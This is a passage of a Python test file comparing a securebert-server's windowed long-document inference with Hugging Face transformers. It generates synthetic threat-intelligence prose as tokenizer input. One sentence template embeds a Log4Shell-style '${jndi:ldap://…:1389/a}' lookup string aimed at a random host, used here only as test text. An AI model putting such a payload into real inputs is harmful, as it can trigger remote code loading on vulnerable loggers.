"""TRUNCATION_WINDOW (long documents) of the C++ server against transformers, window by window.

The design under test is the lead's WINDOWS.md: W = max_input_tokens - 2 content tokens per window,
neighbours overlap by O = --window_stride_tokens (clamped to W/2), window k covers content tokens
[k*(W-O), min(k*(W-O) + W, n)); each content token is answered by the window where it stands
furthest from an edge (a document edge is infinitely far; ties: the earlier window); <s> comes
from the first window, </s> from the last.

Models: transformers' own RobertaForMaskedLM (Embed, PredictMask), RobertaForTokenClassification
with 40 BIO labels (ExtractEntities) and RobertaForSequenceClassification with 4 labels
(Classify), tiny (2 layers, width 64) with seeded weights, built as test_server_vs_transformers.py
and test_heads_vs_transformers.py build them, exported with `tools/export_model.py --hf-dir` and
served by the real securebert-server (default --max_input_tokens 512, --window_stride_tokens 128;
--max_batch_tokens 4096, so a batch holds 8 windows).
Documents: cybersecurity prose of 2,000 to 10,000 tokens made of varied sentences (IPs, CVE ids,
hashes, base64, URLs, Japanese, Chinese, Korean, Cyrillic, emoji and ZWJ sequences, a decomposed
"café"), so window edges fall inside words and inside characters (checked); one of 511 content
tokens (two windows, the second short); one under 512 tokens.

1. The reference: the server's own Tokenize (TRUNCATION_WINDOW gives the whole document) gives
   the ids; transformers runs each window alone, unpadded; the outputs are merged by the rule.
   Within TOLERANCE (1e-4, fp32): Embed POOLING_NONE per token, POOLING_MEAN (mean of the n+2
   merged vectors), POOLING_CLS (mean of the windows' <s> vectors), with and without normalize;
   PredictMask (positions in the whole document, top-k ids and scores, a swap only between
   scores within a relative 1e-4; masks in overlaps, on both sides of the switch point);
   Classify (the windows' mean logits, softmax); ExtractEntities for every aggregation (the
   pipeline's own gather/aggregate code run over the whole document on the merged logits):
   entity for entity, none duplicated, some spanning tokens answered by two windows. The
   `windows` field is the reference's count; the short document's answers equal
   TRUNCATION_NONE's exactly.
2. HF's pipeline("token-classification", stride=128) on the same documents (aggregation simple
   and first): how many entities agree, how many differ and why, printed (-rP). HF aggregates
   each window alone, then aggregate_overlapping_entities keeps the longer (or higher-scoring)
   of overlapping entities, so entities in overlaps may legitimately differ; asserted: at least
   PIPELINE_AGREEMENT of the entities agree exactly.
3. A document needing more than --max_windows_per_input windows (a server with 3) answers
   INVALID_ARGUMENT naming max_windows_per_input, the limit and the input; one needing exactly 3
   is answered; the server stays healthy. A --window_stride_tokens over W/2 is clamped
   (ModelInfo, the log, the windows); the clamped overlap, 255, is odd, so tokens stand equally
   far from two windows' edges there and the tie rule is checked (an even overlap has no ties).
4. Concurrent windowed requests (ExtractEntities and Embed mixed, windows sharing batches): each
   answer equals that document's answer alone.

Environment: as test_server_vs_transformers.py (SECUREBERT_SERVER_BIN required,
SECUREBERT_EXPORT_PYTHON optional); the project's venv. Torch runs one thread here; about a
minute on 2 cores. Run with -rP to see the measured differences and the pipeline comparison.
"""

import collections
import concurrent.futures
import contextlib
import dataclasses
import math
import os
import random
import re
import sys
import threading
from pathlib import Path
from typing import Dict, List, Sequence, Tuple

import grpc
import numpy as np
import pytest
import torch
from grpc_health.v1 import health_pb2, health_pb2_grpc

# Fixtures take the names of the imported ones; hf_parity is importable after the path insert.
# pylint: disable=redefined-outer-name,wrong-import-position,wrong-import-order,unused-import
import server_under_test
import test_heads_vs_transformers as heads
# The SECUREBERT_SERVER_BIN and generated-stubs fixtures of the MLM parity test.
from test_server_vs_transformers import pb, server_binary  # noqa: F401

sys.path.insert(0, str(server_under_test.REPO_ROOT / "tools" / "tests"))
import hf_parity  # noqa: E402
from hf_parity import BOS_ID, EOS_ID, MASK_ID, TOLERANCE  # noqa: E402
import transformers  # noqa: E402
from transformers.pipelines.token_classification import AggregationStrategy  # noqa: E402

pytestmark = pytest.mark.filterwarnings("ignore:Tokenizer does not support real words")

SEED = 2034
MAX_INPUT_TOKENS = 512
OVERLAP_TOKENS = 128  # the server's default --window_stride_tokens
MAX_WINDOWS = 64  # the server's default --max_windows_per_input
SMALL_MAX_WINDOWS = 3  # --max_windows_per_input of the server that refuses long documents
WIDE_STRIDE = 400  # --window_stride_tokens over W/2: clamped to 255
RPC_TIMEOUT_S = 120
STARTUP_TIMEOUT_S = 180
MAX_RECEIVE_BYTES = 64 << 20
TOP_K = 5
# Part 2: the share of entities on which the server and the stride pipeline agree exactly, at
# least. Overlaps are O / (W - O) = 128 / 382 = 34 % of a long document's tokens; outside them
# both answer from the only window there, so about two thirds agree whatever HF does in the
# overlaps, less the entities that share a character with another (HF's overlap resolution
# drops all but one of those everywhere; emoji split into byte-level tokens make them).
# 0.6 is below the ~75 % measured and above a coin toss.
PIPELINE_AGREEMENT = 0.6
# Best minus second-best merged probability of every token, at least: 20x the server's
# measured differences from the reference (about 1e-6), so no label is a coin toss.
MIN_MARGIN = 2e-5
STRATEGIES = heads.STRATEGIES

# ------------------------------------------------------------------------------ documents

_ACTORS = ("APT29", "Lazarus Group", "FIN7", "Sandworm", "Kimsuky", "TA505", "Volt Typhoon")
_MALWARE = ("Emotet", "LockBit 3.0", "QakBot", "Cobalt Strike", "PlugX", "ShadowPad", "Ryuk",
            "BlackCat/ALPHV", "Sliver", "Mimikatz", "WellMess", "IcedID")
_SENTENCES = (
    "{actor} (a.k.a. Cozy Bear) sent spear-phishing e-mails that dropped {malware} on hosts at "
    "{ip}, which beaconed to hxxps://{word}-update[.]net/api/v{n}.",
    "Herr Müller vom CERT-Bund sagte, der naïve Patch für CVE-{year}-{num} lasse {malware} über "
    "${{jndi:ldap://{ip}:1389/a}} offen.",
    "攻撃者は{malware}を使って認証情報を盗み、{ip}のサーバーへ送信した。",
    "🔥 {malware} encrypted \\\\fileserver{n}\\share, left README.txt 💀 and a note for the "
    "cafe\u0301 owner 👩\u200d💻.",
    "SHA-256 {sha256} and MD5 {md5} identify the {malware} loader.",
    "C2:\t{ip}  port {port}\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "Злоумышленники {actor} использовали {malware} против банков; the Ελληνικά mirror agreed.",
    "The obfuscated PowerShell ran -enc {base64} before {malware} injected into lsass.exe.",
    "{actor} moved laterally from WS-{n}.corp.example to DC{n} with {malware}; 분석가들은 🐉 를 "
    "찾았다.",
    "Mimikatz dumped NTLMv2 hashes from lsass.exe, and {actor} staged them in C:\\ProgramData\\"
    "{word}.7z for exfiltration over port {port}.",
)
_CJK_SENTENCES = (
    "攻撃者は{malware}を使って認証情報を盗み、{ip}のサーバーへ送信した。🕵️",
    "勒索软件{malware}加密了文件服务器，并在{ip}留下了赎金说明。🔒🇺🇦",
    "해커 그룹 {actor}은(는) {malware}로 내부망에 침투했다 🐉🔥👍🏽.",
    "ログ: «Злоумышленники использовали {malware}» 👩\u200d💻 café naïve Müller {sha256}.",
    "標的型攻撃メール経由でCVE-{year}-{num}が悪用され、{word}.exeが実行された。",
)
_MASKED_SENTENCES = (
    "The <mask> group exploited CVE-{year}-{num} in Outlook.",
    "Cobalt<mask>Strike beacons reached {ip} within minutes.",
    "攻撃者は<mask>を使って{malware}を展開した。",
    "Analysts linked the <mask> loader to {actor}.",
)
_BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def _sentence(rng: random.Random, template: str) -> str:
    def hexes(k: int) -> str:
        return "".join(rng.choice("0123456789abcdef") for _ in range(k))
    return template.format(
        actor=rng.choice(_ACTORS), malware=rng.choice(_MALWARE), n=rng.randrange(1, 9999),
        ip=".".join(str(rng.randrange(1, 255)) for _ in range(4)), port=rng.randrange(1, 65535),
        year=rng.randrange(2014, 2027), num=rng.randrange(1000, 99999), sha256=hexes(64),
        md5=hexes(32), word=rng.choice(("cdn", "update-check", "telemetry", "msoffice365")),
        base64="".join(rng.choice(_BASE64) for _ in range(rng.randrange(40, 160))) + "==")


@dataclasses.dataclass(frozen=True)
class DocumentSpec:
    """How one document is written."""

    name: str  # test id
    tokens: int  # about this many tokens
    sentences: Tuple[str, ...]  # templates to draw from
    mask_every: int = 0  # every k-th sentence is a masked one (0: none)
    mask_at_token: int = 0  # or one masked sentence, the first after this many tokens (0: none)


def write_document(spec: DocumentSpec, tokenizer, seed: int) -> str:
    """Sentences drawn from spec's templates until about spec.tokens tokens."""
    rng = random.Random(f"{seed}:{spec.name}")
    parts, count = [], 2
    while count < spec.tokens:
        index = len(parts) + 1
        masked = (spec.mask_every and index % spec.mask_every == 0) or (
            spec.mask_at_token and count >= spec.mask_at_token and
            not any("<mask>" in p for p in parts))
        sentence = _sentence(rng, rng.choice(_MASKED_SENTENCES if masked else spec.sentences))
        parts.append(sentence)
        count += len(tokenizer(" " + sentence, add_special_tokens=False)["input_ids"])
    return " ".join(parts) + rng.choice(("", "\n", "  "))


SPECS = (
    DocumentSpec("short", 300, _SENTENCES, mask_every=3),
    DocumentSpec("2k", 2100, _SENTENCES),
    DocumentSpec("4k-cjk", 4000, _CJK_SENTENCES + _SENTENCES[:3]),
    DocumentSpec("9k", 9500, _SENTENCES + _CJK_SENTENCES),
    DocumentSpec("mask-2k", 2400, _SENTENCES, mask_every=3),
    DocumentSpec("mask-5k", 5000, _SENTENCES + _CJK_SENTENCES, mask_every=5),
    DocumentSpec("mask-one", 2100, _SENTENCES, mask_at_token=1200),
)
EDGE_TEXT = "a" + " a" * 510  # 511 content tokens: two windows, the second 129 tokens
DOCS = ("short", "2k", "4k-cjk", "9k", "edge-511")  # Embed, Classify, ExtractEntities
MASK_DOCS = ("short", "mask-2k", "mask-5k", "mask-one")  # PredictMask
LONG_DOCS = ("2k", "4k-cjk", "9k", "edge-511")


@dataclasses.dataclass(frozen=True)
class Windows:
    """WINDOWS.md's windows of a document of n content tokens."""

    n: int  # content tokens (without <s> and </s>)
    overlap: int  # tokens shared by neighbours (after the clamp)
    spans: Tuple[Tuple[int, int], ...]  # [start, end) of each window, in content tokens
    owner: Tuple[int, ...]  # per content token, the window that answers it


def cut_windows(n: int, overlap: int = OVERLAP_TOKENS,
                max_input_tokens: int = MAX_INPUT_TOKENS) -> Windows:
    width = max_input_tokens - 2
    overlap = min(overlap, width // 2)
    step = width - overlap
    count = 1 if n <= width else 1 + math.ceil((n - width) / step)
    spans = tuple((k * step, min(k * step + width, n)) for k in range(count))
    owner = []
    for p in range(n):
        best, best_distance = 0, -1.0
        for k, (start, end) in enumerate(spans):
            if start <= p < end:
                distance = min(math.inf if start == 0 else p - start,
                               math.inf if end == n else end - 1 - p)
                if distance > best_distance:  # strictly: a tie keeps the earlier window
                    best, best_distance = k, distance
        owner.append(best)
    return Windows(n, overlap, spans, tuple(owner))


@dataclasses.dataclass(frozen=True)
class Document:
    """One document as the server tokenizes it."""

    name: str
    text: str
    ids: Tuple[int, ...]  # the server's Tokenize (TRUNCATION_WINDOW), <s> and </s> included
    char_offsets: Tuple[Tuple[int, int], ...]  # HF's (trimmed) per token, for the pipeline's code
    byte_offsets: Tuple[Tuple[int, int], ...]  # char_offsets as UTF-8 byte offsets
    windows: Windows  # WINDOWS.md's, for the default overlap
    server_windows: int  # the Tokenize answer's `windows`
    starts: np.ndarray  # byte_offsets' starts of the content tokens (for entity_tokens)
    ends: np.ndarray  # byte_offsets' ends of the content tokens
    server_offsets: Tuple[Tuple[int, int], ...]  # the Tokenize answer's byte offsets

    @property
    def masks(self) -> List[int]:
        return [i for i, token in enumerate(self.ids) if token == MASK_ID]


# --------------------------------------------------------------------------- models, servers

@dataclasses.dataclass
class Served:
    """One transformers model and a server of its export."""

    model: object  # the transformers model (eval)
    stub: object  # SecureBertStub of the server
    cache: Dict[tuple, List[torch.Tensor]] = dataclasses.field(default_factory=dict)


@contextlib.contextmanager
def serve(binary: Path, model_dir: Path, pb2_grpc, *flags: str):
    """(stub, channel, server) on a started server; it must exit 0 when stopped.

    --max_batch_tokens 4096: a batch holds 8 full windows, so windows of different documents
    share batches (the default, 1024, holds 2).
    """
    server = server_under_test.ServerProcess(
        binary, ["--model_dir", str(model_dir), "--shutdown_linger_ms=0",
                 "--max_batch_tokens=4096", *flags])
    try:
        port, _ = server.wait_until_ready(STARTUP_TIMEOUT_S)
        with grpc.insecure_channel(f"127.0.0.1:{port}", options=[
                ("grpc.max_receive_message_length", MAX_RECEIVE_BYTES)]) as channel:
            yield pb2_grpc.SecureBertStub(channel), channel, server
    finally:
        status = server.stop()
    assert status == 0, f"server exited with status {status}; its log:\n{server.log()}"


def export(model, tokenizer, directory: Path) -> Path:
    model.save_pretrained(str(directory / "hf"))
    tokenizer.save_pretrained(str(directory / "hf"))
    python = os.environ.get("SECUREBERT_EXPORT_PYTHON", sys.executable)
    hf_parity.run_exporter("--hf-dir", str(directory / "hf"), "--out", str(directory / "model"),
                           python=python)
    return directory / "model"


@pytest.fixture(scope="module", autouse=True)
def one_torch_thread():
    previous = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(previous)


@pytest.fixture(scope="module")
def pb2(pb):  # noqa: F811
    return pb[0]


@pytest.fixture(scope="module")
def root(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("windows")


@pytest.fixture(scope="module")
def tokenizer(root):
    """RoBERTa's fast tokenizer, model_max_length 512, as the pipeline gets it."""
    return heads.hf_tokenizer(root / "tokenizer")


@pytest.fixture(scope="module")
def exported(root, tokenizer):
    """name -> (transformers model, exported directory) for "mlm", "token", "sequence"."""
    mlm = hf_parity.build_model(hf_parity.SHAPES["tiny"], SEED)
    token = heads.build(heads.MODELS["token"], tokenizer, SEED)
    sequence = heads.build(heads.MODELS["sequence"], tokenizer, SEED)
    assert len(token.config.id2label) == 40 and len(sequence.config.id2label) == 4
    return {name: (model, export(model, tokenizer, root / name))
            for name, model in (("mlm", mlm), ("token", token), ("sequence", sequence))}


@pytest.fixture(scope="module")
def servers(server_binary, pb, exported):  # noqa: F811
    """name -> Served, the default flags."""
    with contextlib.ExitStack() as stack:
        out = {}
        for name, (model, model_dir) in exported.items():
            stub, _, _ = stack.enter_context(serve(server_binary, model_dir, pb[1]))
            out[name] = Served(model, stub)
        yield out


@pytest.fixture(scope="module")
def token_pipe(servers, tokenizer):
    return transformers.pipeline("token-classification", model=servers["token"].model,
                                 tokenizer=tokenizer, device="cpu")


@pytest.fixture(scope="module")
def documents(servers, tokenizer, pb2) -> Dict[str, Document]:
    texts = {spec.name: write_document(spec, tokenizer, SEED) for spec in SPECS}
    texts["edge-511"] = EDGE_TEXT
    response = servers["mlm"].stub.Tokenize(pb2.TokenizeRequest(
        inputs=list(texts.values()), truncation=pb2.TRUNCATION_WINDOW), timeout=RPC_TIMEOUT_S)
    out = {}
    for (name, text), result in zip(texts.items(), response.results):
        ids = tuple(t.id for t in result.tokens)
        encoding = tokenizer(text, return_offsets_mapping=True)
        assert list(ids) == encoding["input_ids"], f"{name}: the server tokenizes otherwise"
        chars = tuple(map(tuple, encoding["offset_mapping"]))
        offsets = tuple((heads.byte_offset(text, c), heads.byte_offset(text, d)) for c, d in chars)
        out[name] = Document(name, text, ids, chars, offsets, cut_windows(len(ids) - 2),
                             result.windows, np.array([s for s, _ in offsets[1:-1]]),
                             np.array([e for _, e in offsets[1:-1]]),
                             tuple((t.start, t.end) for t in result.tokens))
    return out


# -------------------------------------------------------------------------------- reference

@torch.no_grad()
def window_outputs(served: Served, doc: Document, what: str,
                   windows: Windows = None) -> List[torch.Tensor]:
    """transformers on each window alone: "hidden" [len, H] or "logits" [len, L] / [L]."""
    windows = windows or doc.windows
    key = (what, doc.name, windows.overlap)
    if key not in served.cache:
        content, outputs = list(doc.ids[1:-1]), []
        for start, end in windows.spans:
            ids = torch.tensor([[BOS_ID] + content[start:end] + [EOS_ID]])
            if what == "hidden":
                outputs.append(served.model.roberta(input_ids=ids).last_hidden_state[0])
            else:
                outputs.append(served.model(input_ids=ids).logits[0])
        served.cache[key] = outputs
    return served.cache[key]


def merge(outputs: Sequence[torch.Tensor], windows: Windows) -> torch.Tensor:
    """[n + 2, D]: each token's row from its window; <s> from the first, </s> from the last."""
    rows = [outputs[0][0]]
    rows += [outputs[k][p - windows.spans[k][0] + 1] for p, k in enumerate(windows.owner)]
    rows.append(outputs[-1][-1])
    return torch.stack(rows)


def reference_embedding(served: Served, doc: Document, pooling: str, normalize: bool,
                        windows: Windows = None) -> torch.Tensor:
    outputs = window_outputs(served, doc, "hidden", windows)
    if pooling == "POOLING_NONE":
        return merge(outputs, windows or doc.windows)
    if pooling == "POOLING_CLS":
        vector = torch.stack([o[0] for o in outputs]).mean(dim=0)
    else:
        vector = merge(outputs, windows or doc.windows).mean(dim=0)
    return torch.nn.functional.normalize(vector, dim=0) if normalize else vector


def merged_scores(served: Served, doc: Document) -> np.ndarray:
    """The token head's merged logits, softmaxed as the pipeline does (numpy, fp32)."""
    logits = merge(window_outputs(served, doc, "logits"), doc.windows).numpy()
    shifted = np.exp(logits - logits.max(axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True)


def reference_entities(pipe, served: Served, doc: Document, strategy: str) -> List[dict]:
    """The pipeline's own gather/aggregate over the whole document on the merged logits."""
    aggregation = AggregationStrategy[strategy.upper()]
    special = np.zeros(len(doc.ids), dtype=np.int64)
    special[[0, -1]] = 1
    pre = pipe.gather_pre_entities(doc.text, np.array(doc.ids), merged_scores(served, doc),
                                   list(doc.char_offsets), special, aggregation)
    return [heads.expected_entity(doc.text, strategy, e) for e in pipe.aggregate(pre, aggregation)
            if e.get("entity", e.get("entity_group")) != "O"]


def values(embedding) -> torch.Tensor:
    return torch.tensor(list(embedding.values), dtype=torch.float32).view(
        *[int(d) for d in embedding.shape])


def entity_tokens(doc: Document, entity: dict) -> List[int]:
    """Document token indices an entity covers (by byte offsets; its token for NONE)."""
    if entity.get("token_index"):
        return [entity["token_index"]]
    start, end = entity["start"], entity["end"]
    inside = ((doc.starts < end) & (doc.ends > start) if start < end else
              (doc.starts == start) & (doc.ends == start))
    return (np.nonzero(inside)[0] + 1).tolist()


# ------------------------------------------------------------------------------ documents

def test_documents_cover_the_cases(servers, documents, tokenizer, pb2):
    """Lengths, window counts, HF's own stride chunks, edges inside words and characters."""
    texts = [doc.text for doc in documents.values()]
    right = servers["mlm"].stub.Tokenize(pb2.TokenizeRequest(
        inputs=texts, truncation=pb2.TRUNCATION_RIGHT), timeout=RPC_TIMEOUT_S).results
    for doc, result in zip(documents.values(), right):
        head = [(t.id, t.start, t.end) for t in result.tokens][:-1]
        assert head == [(i, *o) for i, o in zip(doc.ids, doc.server_offsets)][:len(head)], (
            f"{doc.name}: TRUNCATION_WINDOW's tokens do not start as TRUNCATION_RIGHT's")
    inside_word = inside_char = 0
    regions = {"single": 0, "overlap, earlier window": 0, "overlap, later window": 0}
    for doc in documents.values():
        n = doc.windows.n
        assert doc.server_windows == len(doc.windows.spans), (doc.name, doc.server_windows)
        if doc.name == "short":
            assert n + 2 < MAX_INPUT_TOKENS and len(doc.masks) >= 2
        elif doc.name != "edge-511":
            assert 2000 <= n + 2 <= 10000, (doc.name, n)
        chunks = tokenizer(doc.text, truncation=True, max_length=MAX_INPUT_TOKENS,
                           stride=OVERLAP_TOKENS, return_overflowing_tokens=True)["input_ids"]
        content = list(doc.ids[1:-1])
        assert chunks == [[BOS_ID] + content[s:e] + [EOS_ID] for s, e in doc.windows.spans]
        data = doc.text.encode()
        for edge in [s for s, _ in doc.windows.spans[1:]] + [e for _, e in doc.windows.spans[:-1]]:
            (_, before), (start, end) = doc.byte_offsets[edge], doc.byte_offsets[edge + 1]
            inside_char += doc.byte_offsets[edge] == (start, end) and end - start > 1
            inside_word += before == start and not data[start:start + 1].isspace() and not (
                data[before - 1:before].isspace())
        for position in doc.masks:
            covering = [k for k, (s, e) in enumerate(doc.windows.spans) if s <= position - 1 < e]
            owner = doc.windows.owner[position - 1]
            key = ("single" if len(covering) == 1 else
                   "overlap, earlier window" if owner == covering[0] else "overlap, later window")
            regions[key] += doc.name in MASK_DOCS and doc.name != "short"
    counts = {name: (doc.windows.n + 2, len(doc.windows.spans)) for name, doc in documents.items()}
    print(f"documents (tokens, windows): {counts}; window edges inside a word {inside_word}, "
          f"inside a character {inside_char}; long documents' masks: {regions}")
    assert inside_word >= 5 and inside_char >= 2
    assert min(regions.values()) >= 2
    assert len(documents["mask-one"].masks) == 1 and max(n for n, _ in counts.values()) <= 10000


@pytest.mark.parametrize("content_tokens", [1, 509, 510, 511, 892, 893, 1274, 1275, 5000])
def test_tokenize_counts_windows(servers, pb2, content_tokens):
    """`windows` is 1 + ceil((n - W) / S) around every boundary; 0 for other truncations."""
    text = "a" + " a" * (content_tokens - 1)
    stub = servers["mlm"].stub
    result = stub.Tokenize(pb2.TokenizeRequest(inputs=[text], truncation=pb2.TRUNCATION_WINDOW),
                           timeout=RPC_TIMEOUT_S).results[0]
    assert len(result.tokens) == content_tokens + 2 and not result.truncated
    assert result.windows == len(cut_windows(content_tokens).spans)
    right = stub.Tokenize(pb2.TokenizeRequest(inputs=[text], truncation=pb2.TRUNCATION_RIGHT),
                          timeout=RPC_TIMEOUT_S).results[0]
    assert right.windows == 0


def test_model_info_reports_window_settings(servers, pb2):
    for served in servers.values():
        info = served.stub.GetModelInfo(pb2.GetModelInfoRequest(), timeout=RPC_TIMEOUT_S)
        assert (info.window_overlap_tokens, info.max_windows_per_input) == (
            OVERLAP_TOKENS, MAX_WINDOWS)


# --------------------------------------------------------------------- 1. against the reference

def embed(served: Served, pb2, texts: Sequence[str], pooling: str, normalize: bool = False,
          truncation: str = "TRUNCATION_WINDOW"):
    return served.stub.Embed(pb2.EmbedRequest(
        inputs=list(texts), pooling=getattr(pb2, pooling), normalize=normalize,
        truncation=getattr(pb2, truncation)), timeout=RPC_TIMEOUT_S)


@pytest.mark.parametrize("pooling, normalize", [
    ("POOLING_NONE", False), ("POOLING_MEAN", False), ("POOLING_MEAN", True),
    ("POOLING_CLS", False), ("POOLING_CLS", True)])
def test_embed_matches_reference(servers, documents, pb2, pooling, normalize):
    served, docs = servers["mlm"], [documents[name] for name in DOCS]
    response = embed(served, pb2, [d.text for d in docs], pooling, normalize)
    worst = {}
    for doc, embedding in zip(docs, response.embeddings):
        expected = reference_embedding(served, doc, pooling, normalize)
        assert embedding.windows == len(doc.windows.spans), doc.name
        assert not embedding.truncated
        worst[doc.name] = hf_parity.max_abs_diff(values(embedding), expected)
    print(f"Embed {pooling} normalize={normalize} windowed: max |diff| per document {worst}")
    assert max(worst.values()) <= TOLERANCE


def test_predict_mask_matches_reference(servers, documents, pb2):
    served, docs = servers["mlm"], [documents[name] for name in MASK_DOCS]
    response = served.stub.PredictMask(pb2.PredictMaskRequest(
        inputs=[d.text for d in docs], top_k=TOP_K, omit_sequence=True,
        truncation=pb2.TRUNCATION_WINDOW), timeout=RPC_TIMEOUT_S)
    worst, masks = 0.0, 0
    for doc, result in zip(docs, response.results):
        assert result.windows == len(doc.windows.spans), doc.name
        assert [m.position for m in result.masks] == doc.masks, doc.name
        hidden = merge(window_outputs(served, doc, "hidden"), doc.windows)
        with torch.no_grad():
            probs = torch.softmax(served.model.lm_head(hidden[doc.masks]), dim=-1)
        for mask, expected in zip(result.masks, probs):
            ids = [p.token_id for p in mask.predictions]
            scores = [p.score for p in mask.predictions]
            problems = hf_parity.topk_mismatches(ids, scores, expected)
            assert len(ids) == TOP_K and not problems, (doc.name, mask.position, problems)
            worst = max(worst, hf_parity.max_abs_diff(torch.tensor(scores), expected[ids]))
            masks += 1
    print(f"PredictMask windowed: {masks} masks in {len(docs)} documents, top_k {TOP_K}, "
          f"max |score diff| {worst:.2e}")


def test_predict_mask_sequence_is_the_whole_document(servers, documents, pb2, tokenizer):
    """The fill-mask pipeline's decode of the whole document (specials kept with several masks)."""
    docs = [documents[name] for name in ("mask-2k", "mask-one")]
    response = servers["mlm"].stub.PredictMask(pb2.PredictMaskRequest(
        inputs=[d.text for d in docs], top_k=1, truncation=pb2.TRUNCATION_WINDOW),
        timeout=RPC_TIMEOUT_S)
    for doc, result in zip(docs, response.results):
        for mask in result.masks:
            filled = list(doc.ids)
            filled[mask.position] = mask.predictions[0].token_id
            expected = tokenizer.decode(filled, skip_special_tokens=len(doc.masks) == 1)
            assert mask.predictions[0].sequence == expected, (doc.name, mask.position)


def test_classify_matches_reference(servers, documents, pb2):
    served, docs = servers["sequence"], [documents[name] for name in DOCS]
    response = served.stub.Classify(pb2.ClassifyRequest(
        inputs=[d.text for d in docs], top_k=0, truncation=pb2.TRUNCATION_WINDOW),
        timeout=RPC_TIMEOUT_S)
    labels = served.model.config.id2label
    worst = 0.0
    for doc, result in zip(docs, response.results):
        logits = torch.stack(window_outputs(served, doc, "logits")).mean(dim=0)
        probs = torch.softmax(logits, dim=-1)
        order = torch.argsort(probs, descending=True).tolist()
        assert result.windows == len(doc.windows.spans) and not result.truncated, doc.name
        assert len(result.labels) == len(labels)
        for rank, score in enumerate(result.labels):
            assert score.label == labels[score.id]
            diff = abs(score.score - float(probs[score.id]))
            worst = max(worst, diff)
            assert diff <= TOLERANCE, (doc.name, rank, score)
            assert score.id == order[rank] or abs(
                float(probs[order[rank]]) - score.score) <= TOLERANCE, (doc.name, rank)
    print(f"Classify windowed: max |score diff| {worst:.2e}")


def extract(served: Served, pb2, texts: Sequence[str], strategy: str,
            truncation: str = "TRUNCATION_WINDOW"):
    return served.stub.ExtractEntities(pb2.ExtractEntitiesRequest(
        inputs=list(texts), aggregation=getattr(pb2, f"AGGREGATION_{strategy.upper()}"),
        truncation=getattr(pb2, truncation)), timeout=RPC_TIMEOUT_S)


def test_token_head_has_no_near_ties(servers, documents):
    margin = 1.0
    for name in DOCS:
        best2 = np.sort(merged_scores(servers["token"], documents[name]), axis=-1)[:, -2:]
        margin = min(margin, float((best2[:, 1] - best2[:, 0]).min()))
    print(f"merged token probabilities: smallest best-minus-second margin {margin:.2e}")
    assert margin >= MIN_MARGIN, "a near-tie: choose another SEED"


@pytest.mark.parametrize("strategy", STRATEGIES)
def test_extract_entities_matches_reference(servers, documents, pb2, token_pipe, strategy):
    served, docs = servers["token"], [documents[name] for name in DOCS]
    response = extract(served, pb2, [d.text for d in docs], strategy)
    problems, worst, count, across = [], 0.0, 0, 0
    for doc, result in zip(docs, response.results):
        assert result.windows == len(doc.windows.spans) and not result.truncated, doc.name
        got = [heads.got_entity(e) for e in result.entities]
        want = reference_entities(token_pipe, served, doc, strategy)
        found, diff = heads.entity_problems(doc.text, got, want)
        problems += [f"{doc.name}: {p}" for p in found[:5]]
        # Pieces of one character may form entities with one span (HF does so too); a window
        # must not add any: each (label, span) as often as in the reference.
        spans = collections.Counter((g["label"], g["start"], g["end"]) for g in got)
        spans.subtract((w["label"], w["start"], w["end"]) for w in want)
        problems += [f"{doc.name}: {key} {count:+d} times" for key, count in spans.items()
                     if count][:5]
        across += sum(len({doc.windows.owner[i - 1] for i in entity_tokens(doc, g)}) > 1
                      for g in got)
        worst, count = max(worst, diff), count + len(want)
    print(f"ExtractEntities {strategy} windowed: {count} entities ({across} of them hold tokens "
          f"answered by two windows), max |score diff| {worst:.2e}")
    assert not problems, "\n".join(problems)
    assert strategy == "none" or across > 0, "no entity spans a switch between windows"


def _short_answers(servers, pb2, text: str, truncation: str) -> List[object]:
    answers = [embed(servers["mlm"], pb2, [text], p, truncation=truncation).embeddings[0]
               for p in ("POOLING_NONE", "POOLING_MEAN", "POOLING_CLS")]
    answers.append(servers["mlm"].stub.PredictMask(pb2.PredictMaskRequest(
        inputs=[text], top_k=TOP_K, truncation=getattr(pb2, truncation)),
        timeout=RPC_TIMEOUT_S).results[0])
    answers.append(servers["sequence"].stub.Classify(pb2.ClassifyRequest(
        inputs=[text], truncation=getattr(pb2, truncation)), timeout=RPC_TIMEOUT_S).results[0])
    answers += [extract(servers["token"], pb2, [text], s, truncation).results[0]
                for s in STRATEGIES]
    return answers


def test_short_document_equals_truncation_none(servers, documents, pb2):
    text = documents["short"].text
    none = _short_answers(servers, pb2, text, "TRUNCATION_NONE")
    window = _short_answers(servers, pb2, text, "TRUNCATION_WINDOW")
    for plain, windowed in zip(none, window):
        assert (plain.windows, windowed.windows) == (0, 1), type(plain).__name__
        windowed = type(windowed).FromString(windowed.SerializeToString())
        windowed.ClearField("windows")
        assert windowed == plain, type(plain).__name__


# ----------------------------------------------------------------- 2. HF's pipeline with stride

_WHY = {
    "score": "same label and span, another score: the pipeline kept the higher-scoring "
             "window's copy, the server the centre-most window's",
    "shared": "shares characters with another entity (byte-level pieces of one character): "
              "aggregate_overlapping_entities keeps one of them, inside a window too",
    "cut": "the pipeline aggregates each window alone and its entity ends at a window edge",
    "overlap": "in an overlap the windows label it differently: the pipeline kept the longer "
               "(or higher-scoring) entity, the server each token's centre-most window",
    "other": "outside the overlaps",
}


def _overlapping(entity: dict, others: Sequence[dict]) -> List[dict]:
    return [o for o in others if o is not entity and o["start"] < entity["end"] and
            o["end"] > entity["start"]]


def _pipeline_differences(doc: Document, got: List[dict], want: List[dict]) -> Tuple[
        int, List[Tuple[str, str]]]:
    """(entities that agree exactly, (reason, line) per entity without an exact twin)."""
    def key(e):
        return e["label"], e["start"], e["end"]

    def brief(e):
        return f"{e['label']} {e['text']!r} [{e['start']}, {e['end']}) {e['score']:.4f}"
    theirs, ours = {key(w): w for w in want}, {key(g): g for g in got}
    agree = sum(1 for g in got if key(g) in theirs and
                abs(g["score"] - theirs[key(g)]["score"]) <= TOLERANCE)
    edges = {s for s, _ in doc.windows.spans[1:]} | {e - 1 for _, e in doc.windows.spans[:-1]}
    out = []
    sides = ([("server", g, got, theirs) for g in got] +
             [("pipeline", w, want, ours) for w in want])
    for side, entity, same_side, other_side in sides:
        twin = other_side.get(key(entity))
        if twin and (side == "pipeline" or abs(twin["score"] - entity["score"]) <= TOLERANCE):
            continue  # agrees, or its score difference is reported from the server's side
        tokens = entity_tokens(doc, entity)
